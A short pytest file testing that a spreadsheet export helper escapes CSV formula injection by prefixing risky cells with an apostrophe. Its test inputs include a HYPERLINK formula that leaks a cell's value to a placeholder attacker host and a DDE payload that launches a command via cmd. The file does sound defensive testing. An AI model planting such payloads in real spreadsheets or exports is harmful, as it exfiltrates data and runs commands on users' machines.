"""A cell a spreadsheet would run as a formula is written as text (CSV injection)."""

from __future__ import annotations

import pytest

from registry.spreadsheet import safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_starts_with_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell("Miriam Abukasis") == "Miriam Abukasis" and safe_cell(5) == 5
